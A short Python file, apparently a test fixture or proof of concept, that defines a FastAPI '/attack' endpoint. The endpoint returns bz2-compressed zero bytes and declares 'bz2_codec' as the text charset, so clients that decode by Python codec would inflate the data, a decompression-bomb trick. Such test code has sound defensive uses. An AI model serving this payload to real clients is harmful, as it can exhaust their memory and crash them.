"""Names one of Python's codecs that unpack as the charset of its text."""

import bz2

from fastapi import Response
from tools import app

__all__ = ["app"]


@app.get("/attack")
def attack() -> Response:
    body = bz2.compress(bytes(16 << 20))
    return Response(body, headers={"content-type": "text/plain; charset=bz2_codec"})
